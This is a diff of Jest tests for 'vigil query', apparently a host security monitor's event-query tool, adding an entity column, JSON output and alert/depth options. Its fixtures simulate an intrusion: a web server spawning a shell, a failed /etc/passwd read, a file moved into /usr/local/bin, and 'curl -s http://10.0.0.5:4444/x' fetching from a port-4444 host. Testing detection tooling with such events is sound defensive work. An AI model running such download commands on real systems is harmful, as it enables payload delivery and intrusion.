@@ -34,10 +34,10 @@ describe('vigil query', () => {
     expect(code).toBe(0);
     expect(err).toBe('');
     const lines = out.split('\n');
-    expect(lines[0]).toMatch(/^TIME\s+ACTION\s+PID\s+EXE\s+DETAIL$/);
+    expect(lines[0]).toMatch(/^TIME\s+ACTION\s+PID\s+ENTITY\s+EXE\s+DETAIL$/);
     expect(lines).toHaveLength(5);
-    expect(lines[1]).toMatch(/^2024-05-01T11:30:03\.500Z\s+exit\s+201\s+\/usr\/bin\/curl\s+code=/);
-    expect(lines[2]).toMatch(/^2024-05-01T11:30:03\.000Z\s+connect\s+201\s+\/usr\/bin\/curl\s+-> 10\.0\.0\.5:4444$/);
+    expect(lines[1]).toMatch(/^2024-05-01T11:30:03\.500Z\s+exit\s+201\s+ent-curl\s+\/usr\/bin\/curl\s+code=/);
+    expect(lines[2]).toMatch(/^2024-05-01T11:30:03\.000Z\s+connect\s+201\s+ent-curl\s+\/usr\/bin\/curl\s+-> 10\.0\.0\.5:4444$/);
     expect(lines[3]).toContain('curl -s http://10.0.0.5:4444/x');
     // Every column starts at the same offset on every line.
     for (const col of ['ACTION', 'PID', 'EXE', 'DETAIL']) {
@@ -49,7 +49,7 @@ describe('vigil query', () => {
 
   it('shows alerts, failures, renames and inbound peers in the detail column', () => {
     const out = run({}).out;
-    expect(out).toMatch(/ALERT\s+200\s+\/bin\/sh\s+\[sev 73\] Web server spawned a shell \(vigil-exec-001\)/);
+    expect(out).toMatch(/ALERT\s+200\s+ent-sh\s+\/bin\/sh\s+\[high\] Web server spawned a shell \(vigil-exec-001\) id=\S+/);
     expect(out).toContain('/etc/passwd [failed EACCES]');
     expect(out).toContain('/tmp/x -> /usr/local/bin/x');
     expect(out).toContain('<- 192.168.1.9:51234');
@@ -76,8 +76,28 @@ describe('vigil query', () => {
     for (const l of shActivity) expect(l.startsWith('   │   ')).toBe(true);
     const curlActivity = lines.slice(curlAt + 1);
     expect(curlActivity.some((l) => /^ {10}\S+\s+connect\s+-> 10\.0\.0\.5:4444$/.test(l))).toBe(true);
-    const json = JSON.parse(run({ tree: 'ent-nginx', json: true }).out);
-    expect(json.root.children[0].children[0].entityId).toBe('ent-curl');
+    // --json: the tree's ECS documents, process by process, oldest first within each.
+    const docs = run({ tree: 'ent-nginx', json: true }).out.split('\n').map((l) => JSON.parse(l));
+    expect(docs.map((d) => `${d.process.entity_id}:${d.event.kind === 'alert' ? 'ALERT' : d.event.action}`)).toEqual([
+      'ent-nginx:exec', 'ent-sh:fork', 'ent-sh:exec', 'ent-sh:open', 'ent-sh:rename', 'ent-sh:ALERT',
+      'ent-curl:fork', 'ent-curl:exec', 'ent-curl:connect', 'ent-curl:exit']);
+  });
+
+  it('--tree --depth and --hide-failed trim the tree; --alert shows what the alert\'s process did', () => {
+    const shallow = run({ tree: 'ent-nginx', depth: '1' }).out;
+    expect(shallow).toContain('/bin/sh [pid 200] (ent-sh)');
+    expect(shallow).not.toContain('ent-curl');
+    expect(shallow).not.toContain('truncated');
+    expect(run({ tree: 'ent-cat' }).out).toContain('/etc/passwd [failed EACCES]');
+    expect(run({ tree: 'ent-cat', hideFailed: true }).out).not.toContain('[failed');
+    expect(run({ tree: 'ent-nginx', depth: '99' }).err).toMatch(/depth: must be a whole number from 0 to 32/);
+    const alertId = (JSON.parse(run({ json: true, kind: 'alert', rule: 'vigil-exec-001' }).out.split('\n')[0]) as { event: { id: string } }).event.id;
+    const byAlert = run({ alert: alertId }).out.split('\n');
+    expect(byAlert[1]).toMatch(/ALERT\s+200\s+ent-sh\s+\/bin\/sh\s+\[high\] Web server spawned a shell/);
+    expect(byAlert.slice(3).every((l) => /\sent-sh\s/.test(l))).toBe(true); // then the events of that process only
+    expect(byAlert.slice(3).map((l) => l.split(/\s+/)[1])).toEqual(['ALERT', 'rename', 'open', 'exec', 'fork']);
+    expect(run({ alert: alertId, tree: true as unknown as string }).out.split('\n')[2]).toMatch(/^\/bin\/sh \[pid 200\] \(ent-sh\)/);
+    expect(run({ alert: 'no-such-alert' }).err).toMatch(/alert no-such-alert has no recorded events; check the id \(the ALERT rows show id=/);
   });
 
   it('reports bad input and unusable databases on stderr with exit code 2', () => {
@@ -107,10 +127,10 @@ describe('vigil query', () => {
     const cmd = program.commands.find((c) => c.name() === 'query')!;
     const flags = cmd.options.map((o) => o.long);
     expect(flags).toEqual(expect.arrayContaining(['--db', '--since', '--until', '--pid', '--entity-id', '--exe', '--path',
-      '--dst', '--action', '--rule', '--severity', '--kind', '--limit', '--timeout', '--json', '--tree']));
+      '--dst', '--action', '--rule', '--severity', '--kind', '--limit', '--timeout', '--json', '--tree', '--alert', '--depth', '--hide-failed']));
     out.length = 0;
     await program.parseAsync(['query', '--db', dbPath, '--entity-id', 'ent-cat', '--rule', 'vigil-cred-*', '--until', '2024-05-01T12:00:00Z'], { from: 'user' });
-    expect(out.join('\n')).toMatch(/ALERT\s+400\s+\/usr\/bin\/cat\s+\[sev 40\] Sensitive file read/);
+    expect(out.join('\n')).toMatch(/ALERT\s+400\s+\S+\s+\/usr\/bin\/cat\s+\[severity 40\] Sensitive file read/);
     await program.parseAsync(['query', '--db', dbPath, '--limit', 'lots'], { from: 'user' });
     expect(process.exitCode).toBe(2);
   });
